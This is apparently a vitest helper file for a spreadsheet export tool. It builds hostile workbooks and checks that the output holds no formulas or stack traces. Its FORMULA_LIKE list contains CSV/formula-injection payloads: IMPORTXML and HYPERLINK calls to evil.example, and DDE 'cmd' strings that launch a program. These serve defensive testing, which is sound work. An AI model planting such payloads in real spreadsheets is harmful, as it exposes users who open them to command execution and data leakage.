import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import * as XLSX from '@e965/xlsx';
import { expect } from 'vitest';

/**
 * Inputs an attacker or a careless export produces, and the checks every
 * hostile-input test makes of a run's outcome. Workbooks are built with
 * SheetJS (not Fenceng's writer) so the input is what Excel-like tools make.
 */

/** Text that spreadsheets treat as formulas, or that looks like one after normalising. */
export const FORMULA_LIKE = [
  '=IMPORTXML("http://evil.example/x","//a")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3',
  '＝IMPORTXML("http://evil.example/y","//a")',
  '\u200B=IMPORTXML("http://evil.example/z","//a")',
  "'=already quoted",
  '=HYPERLINK("http://evil.example","点我")',
];

/** Text that must come back exactly (no control characters or lone surrogates: see hostile-xlsx-writer). */
export const ODD_TEXT = ['😀🎉 表情', '𠀀𠀁 扩展B', 'TRUE', '00123', '1e5', '<b>&amp;</b> "q"', 'مرحبا', 'x'.repeat(26_000)];

export const ADMIN_HEADER = ['姓名', '角色', '邮箱', '上级', '在职', '核心容量', '潜力容量', '沉默容量'];
export const ADMINS = [ADMIN_HEADER, ['L', '总负责人', 'l@example.com', null, '是'], ['M', '中层负责人', 'm@example.com', 'L', '是'], ['R1', '普通管理员', 'r1@example.com', 'M', '是', 100, 100, 100], ['R2', '普通管理员', 'r2@example.com', 'M', '是', 100, 100, 100]];

export const MEMBER_HEADER = ['成员ID', '昵称', '抖音号', '入群日期', '最近活跃', '近30天评论', '近30天点赞', '近30天转发', '备注'];

type Cell = string | number | boolean | Date | null | XLSX.CellObject;

/** Member rows: every hostile text as a nickname, every hostile number and date in the fact columns. */
export function hostileMemberRows(): Cell[][] {
  const rows: Cell[][] = [];
  const texts = [...FORMULA_LIKE, ...ODD_TEXT];
  texts.forEach((t, i) => rows.push([`h${i}`, t, t, '2025-01-01', '2026-11-20', 10 + i, 5, 1, t]));
  const numbers: Cell[] = ['1e308', '9'.repeat(400), 1e308, 1e-308, Number.MAX_VALUE, -5, 0.000001, '99999999亿', '1.2万'];
  numbers.forEach((n, i) => rows.push([`n${i}`, `数${i}`, null, '2025-01-01', '2026-11-20', n, n, n, null]));
  const dates: Cell[] = ['1900-01-01', '9999-12-31', '1899-12-31', '99999999999天前', '0000-01-01', { t: 'n', v: 1e20, z: 'yyyy-mm-dd' }, { t: 'n', v: -1, z: 'yyyy-mm-dd' }, new Date(Date.UTC(1900, 0, 1))];
  dates.forEach((d, i) => rows.push([`d${i}`, `日${i}`, null, d, d, 3, 3, 3, null]));
  // Formula-like member IDs, and a duplicate one.
  rows.push([FORMULA_LIKE[0], '公式ID', null, null, '2026-11-25', 1, 1, 1, null]);
  rows.push([FORMULA_LIKE[4], '全角公式ID', null, null, '2026-11-25', 1, 1, 1, null]);
  rows.push(['h0', '重复', null, null, '2026-11-25', 1, 1, 1, null]);
  return rows;
}

/** An .xlsx written by SheetJS: sheets in order, cells as given (CellObjects verbatim). */
export function sheetJsWorkbook(sheets: Array<{ name: string; rows: Cell[][]; merges?: string[] }>): Buffer {
  const wb = XLSX.utils.book_new();
  for (const s of sheets) {
    const ws: XLSX.WorkSheet = {};
    let maxC = 0;
    s.rows.forEach((row, r) =>
      row.forEach((v, c) => {
        maxC = Math.max(maxC, c);
        if (v === null || v === undefined) return;
        const at = XLSX.utils.encode_cell({ r, c });
        if (typeof v === 'object' && !(v instanceof Date)) ws[at] = v;
        else if (v instanceof Date) ws[at] = { t: 'd', v, z: 'yyyy-mm-dd' };
        else ws[at] = { t: typeof v === 'number' ? 'n' : typeof v === 'boolean' ? 'b' : 's', v } as XLSX.CellObject;
      }),
    );
    ws['!ref'] = XLSX.utils.encode_range({ s: { r: 0, c: 0 }, e: { r: Math.max(0, s.rows.length - 1), c: maxC } });
    if (s.merges) ws['!merges'] = s.merges.map((m) => XLSX.utils.decode_range(m));
    XLSX.utils.book_append_sheet(wb, ws, s.name);
  }
  return XLSX.write(wb, { type: 'buffer', bookType: 'xlsx', cellDates: true, bookSST: true }) as Buffer;
}

/** The output re-read by SheetJS, a second library: every sheet as rows of raw cells. */
export function reread(path: string): { names: string[]; sheets: Record<string, XLSX.WorkSheet>; rows(sheet: string): unknown[][] } {
  const wb = XLSX.read(readFileSync(path), { cellFormula: true, cellDates: false, dense: false });
  return {
    names: wb.SheetNames,
    sheets: wb.Sheets,
    rows: (sheet) => XLSX.utils.sheet_to_json(wb.Sheets[sheet]!, { header: 1, raw: true, defval: null }),
  };
}

/** No cell of any sheet is a formula, and no text is longer than Excel allows. */
export function expectNoFormulasAndCellsWithinLimits(path: string): void {
  const { names, sheets } = reread(path);
  for (const name of names) {
    for (const [at, cell] of Object.entries(sheets[name]!)) {
      if (at.startsWith('!')) continue;
      const c = cell as XLSX.CellObject;
      expect(c.f, `${name}!${at} is a formula`).toBeUndefined();
      if (typeof c.v === 'string') expect(c.v.length, `${name}!${at}`).toBeLessThanOrEqual(32_767);
    }
  }
}

/** Runs bin/fenceng.js as a real process. */
export function runProcess(args: string[], opts: { cwd?: string; heapMb?: number; timeoutMs?: number } = {}): Promise<{ code: number | null; signal: string | null; out: string; err: string }> {
  const node = [...(opts.heapMb ? [`--max-old-space-size=${opts.heapMb}`] : []), `${process.cwd()}/bin/fenceng.js`, ...args];
  return new Promise((resolve) => {
    execFile(process.execPath, node, { cwd: opts.cwd, timeout: opts.timeoutMs ?? 120_000, maxBuffer: 64 * 1024 * 1024, env: { ...process.env, FENCENG_DEBUG: '' } }, (error, out, err) => {
      const e = error as (NodeJS.ErrnoException & { code?: number | string; signal?: string }) | null;
      resolve({ code: e ? (typeof e.code === 'number' ? e.code : null) : 0, signal: e?.signal ?? null, out, err });
    });
  });
}

/** What an operator must never see. */
export function expectNoStackTrace(text: string): void {
  expect(text).not.toMatch(/\n\s+at [^\n]+[:(]/);
  expect(text).not.toMatch(/FATAL ERROR|heap out of memory|Native stack|node:internal/i);
}
